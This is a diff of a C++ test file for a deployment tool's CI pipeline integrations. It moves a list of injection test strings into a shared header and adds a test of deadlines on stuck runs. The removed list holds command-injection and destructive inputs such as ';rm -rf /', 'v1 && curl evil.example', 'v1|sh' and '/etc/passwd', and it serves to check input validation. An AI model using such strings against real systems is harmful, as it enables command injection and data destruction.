@@ -4,13 +4,18 @@
 // request at all. A valid version then does reach each fake, so the check is not vacuous.
 #include <gtest/gtest.h>
 
+#include <boost/asio/co_spawn.hpp>
+#include <boost/asio/detached.hpp>
 #include <boost/asio/io_context.hpp>
+#include <boost/asio/post.hpp>
+#include <boost/asio/use_awaitable.hpp>
 #include <chrono>
 #include <memory>
 #include <string>
 #include <vector>
 
 #include "common/chat_input.h"
+#include "common/timer.h"
 #include "integrations/ci/github_actions.h"
 #include "integrations/ci/gitlab_ci.h"
 #include "integrations/ci/jenkins.h"
@@ -21,6 +26,7 @@
 #include "tests/support/fake_github.h"
 #include "tests/support/fake_gitlab.h"
 #include "tests/support/fake_jenkins.h"
+#include "tests/support/injection_strings.h"
 
 namespace shipmate::integrations {
 namespace {
@@ -30,35 +36,8 @@ using namespace std::chrono_literals;
 using testing::FakeGithub;
 using testing::FakeGitlab;
 using testing::FakeJenkins;
+using testing::injection_strings;
 using testing::run_async_test;
-
-// What a workflow that interpolates its inputs into a shell step, a path or a tool's options
-// would misread, and characters that only look like the allowed ones.
-std::vector<std::string> injection_strings() {
-  return {"$(id)",
-          ";rm -rf /",
-          "`id`",
-          "../etc",
-          "-rf",
-          ".hidden",
-          "a..b",
-          "v1\nv2",
-          "v1\r\nX-Injected: 1",
-          std::string(kMaxVersionLength + 1, 'a'),
-          "v1 && curl evil.example",
-          "${{ secrets.TOKEN }}",
-          "v1|sh",
-          "v1'\"",
-          "/etc/passwd",
-          "v1\xe2\x80\xa4"
-          "2",  // U+2024 ONE DOT LEADER, not '.'
-          "\xef\xbd\x96"
-          "1",  // U+FF56 FULLWIDTH v
-          "v1\xe2\x80\x90"
-          "2",          // U+2010 HYPHEN, not '-'
-          "v\xd0\xb0",  // Cyrillic a
-          std::string("v1\0rm", 5)};
-}
 
 PipelineTargetConfig pipeline_config() {
   PipelineTargetConfig config;
@@ -117,6 +96,64 @@ TEST(PipelineTargetInjection, GithubActionsReceivesNoRequestForAnyInjectionStrin
     CO_ASSERT_TRUE(!fake.runs().empty(), "no run");
     EXPECT_EQ(fake.runs().front().inputs.at("version"), "v2.3.1");
   });
+}
+
+// Run polling waits on the target's Timers, and the follow's deadline counts the time they
+// slept: a run that never finishes reaches its one-hour deadline on manual time, is cancelled,
+// and fails the deploy, with no real waiting. Polls back off (30 s first, up to 5 min).
+TEST(PipelineTargetTimers, AStuckRunReachesItsDeadlineOnManualTimeAndIsCancelled) {
+  FakeGithub fake;
+  fake.plan_next_run(testing::FakeRunPlan{.stuck = true});
+  ApplyOutcome applied;
+  std::chrono::milliseconds passed{0};
+  run_async_test([&](asio::io_context& ioc) -> asio::awaitable<void> {
+    const net::HttpClientOptions http_options = testing::client_options(fake);
+    net::HttpClient http(ioc.get_executor(), http_options);
+    GithubActionsConfig config;
+    config.api_url = fake.base_url();
+    config.owner = fake.options().owner;
+    config.repo = fake.options().repo;
+    config.workflow = "deploy.yml";
+    config.token = fake.options().token;
+    config.inputs = {{"version", "{version}"}, {"environment", "{environment}"}};
+    config.retry.first_backoff = 5ms;
+    config.timeout = 2000ms;
+    auto timers = std::make_shared<ManualTimers>(ioc.get_executor());
+    PipelineTargetConfig pipeline = pipeline_config();
+    pipeline.follow.first_poll = 30s;
+    pipeline.follow.max_poll = 5min;
+    pipeline.follow.deadline = 1h;
+    pipeline.timers = timers;
+    auto target = make_pipeline_target(std::make_unique<GithubActions>(http, config), pipeline);
+    bool finished = false;
+    asio::co_spawn(
+        ioc,
+        [&]() -> asio::awaitable<void> {
+          ProgressFn progress = [](const std::string&) {};
+          std::string env = "staging";
+          std::string version = "v2.3.1";
+          applied = co_await target->apply(env, version, progress);
+          finished = true;
+        },
+        asio::detached);
+    while (!finished) {
+      if (timers->sleeping() > 0)
+        timers->advance(5min);
+      co_await asio::post(ioc, asio::use_awaitable);  // let the socket work run
+    }
+    passed = timers->now();
+  });
+  EXPECT_FALSE(applied.ok);
+  EXPECT_NE(applied.message.find("the deploy pipeline timed_out: no result after 1 h"),
+            std::string::npos)
+      << applied.message;
+  EXPECT_NE(applied.message.find("the run was cancelled"), std::string::npos) << applied.message;
+  ASSERT_EQ(fake.runs().size(), 1u);
+  EXPECT_TRUE(fake.runs().front().cancel_requested);
+  EXPECT_GE(passed, 1h - 5min);
+  // Backing off: far fewer polls than one every 30 s for an hour.
+  const auto polls = fake.requests_to("GET", "/repos/acme/shop/actions/runs/").size();
+  EXPECT_LT(polls, 40u);
 }
 
 TEST(PipelineTargetInjection, GitlabCiReceivesNoRequestForAnyInjectionString) {
